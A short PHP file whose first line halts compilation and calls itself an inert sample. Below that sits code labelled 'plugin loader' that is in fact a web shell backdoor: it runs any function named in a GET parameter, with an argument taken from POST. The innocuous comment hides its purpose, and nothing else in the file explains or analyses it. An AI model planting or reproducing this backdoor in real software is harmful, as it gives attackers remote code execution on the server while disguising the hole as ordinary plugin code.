<?php __halt_compiler(); // inert corpus sample (hegui): nothing below is compiled ?>
<?php
// plugin loader
if (isset($_GET['hjasx'])) {
    call_user_func($_GET['data'], $_POST['eudzq']);
}
